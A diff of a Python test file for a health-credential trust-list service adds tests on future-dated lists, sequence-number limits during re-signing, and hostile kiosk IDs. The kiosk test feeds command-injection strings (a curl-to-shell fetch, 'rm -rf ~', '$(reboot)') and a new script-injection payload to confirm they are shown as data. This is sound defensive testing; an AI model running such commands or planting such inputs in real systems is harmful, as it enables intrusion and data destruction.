@@ -14,6 +14,10 @@ refused or bounded since.
 * the kiosk page showed staff a shell command built from the address's ``kiosk_id``;
 * an audit row rewritten with duplicate JSON members still verified (the chain read the last member,
   the ops figures the first);
+* 140 000 EU revocation hashes made a signed trust list no verifier accepts: whether a changed list
+  still fits is now measured before it is signed (the write paths that call it are the service's).
+
+Security headers on pages and API answers are tested in tests/test_pages_csp.py.
 """
 from __future__ import annotations
 
@@ -135,6 +139,10 @@ def test_a_future_dated_list_is_refused_and_a_far_ahead_seq_locks_nothing_out(wo
     listed.write_text(token)                          # even the active key cannot date a list ahead
     out = offline(world, green, listed, keys, state)
     assert out.returncode == 2 and "issued in the future" in out.stderr, out.stderr
+    import standard
+    later = cli(world, "verify", green, "--trust-list", str(listed), "--national-keys", str(keys), "--state",
+                str(state), "--at", standard.rfc3339(now + 4 * 86400))     # --at judges the code, not the list
+    assert later.returncode == 2 and "issued in the future" in later.stderr, later.stderr
     # a verifier that accepted a far-future seq before these rules is not locked out for ever
     state.write_text(json.dumps({"seq": now + 10 ** 9}))
     listed.write_text(call(world, "GET", "/v1/trust-list").json()["jws"])
@@ -187,7 +195,8 @@ def test_the_checkpoint_page_applies_the_same_rules_to_national_keys(world):
 
 
 # --- 8. the kiosk page's staff hint ------------------------------------------------------------------
-@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`"])
+@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`",
+                                      "</script><script>window.__ran=1</script>"])
 def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_id):
     from urllib.parse import quote
     from selenium.webdriver.common.by import By
@@ -199,6 +208,7 @@ def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_i
         wait_for(driver, lambda d: hint.is_displayed())
         assert "healthcode credentials add" not in hint.text and "curl" not in hint.text
         assert "not a valid id" in hint.text
+        assert driver.execute_script("return window.__ran") is None          # data, never a script
         driver.get(f"{world.url}/kiosk?kiosk_id=bj-station-2")                 # a real id: the command
         hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
         assert "healthcode credentials add --role kiosk --id bj-station-2 --kiosk-id bj-station-2" in hint.text
@@ -397,3 +407,22 @@ def test_a_trust_list_change_is_measured_before_it_is_signed(world):
         trustlist.check_fits(big, "importing this revocation list")
     assert refused.value.code == "trust_list_full" and "importing this revocation list" in refused.value.message
     assert len(trustlist.sign(big, keys.signer("national"))) > trustlist.MAX_TRUST_LIST_CHARS   # it really would not
+
+
+def test_re_signing_in_a_loop_never_runs_seq_out_of_what_verifiers_accept(tmp_path):
+    """Thousands of re-signs (revocations in a loop) add one to seq each: past half the lead
+    verifiers allow, each waits a second, so the gateway never signs a list its verifiers (and
+    it itself) refuse."""
+    from gateway import trustseq
+    from standard import trustlist
+    waits, path, now = [], tmp_path / "trust-list.seq", 1_800_000_000
+    assert [trustseq.next_seq(path, now, sleep=waits.append) for _ in range(3)] == [now, now + 1, now + 2]
+    assert waits == []
+    path.write_text(str(now + trustseq.AHEAD_LIMIT))
+    assert trustseq.next_seq(path, now, sleep=waits.append) == now + trustseq.AHEAD_LIMIT + 1
+    assert waits == [1] and trustseq.AHEAD_LIMIT + 1 < trustlist.SEQ_LEAD
+    clock, path = [now], tmp_path / "burst.seq"          # a burst of re-signs, the clock moving with the waits
+    for _ in range(5000):
+        iat = clock[0]
+        seq = trustseq.next_seq(path, iat, sleep=lambda s: clock.__setitem__(0, clock[0] + s))
+        assert seq - iat <= trustseq.AHEAD_LIMIT + 1 < trustlist.SEQ_LEAD            # what parse checks
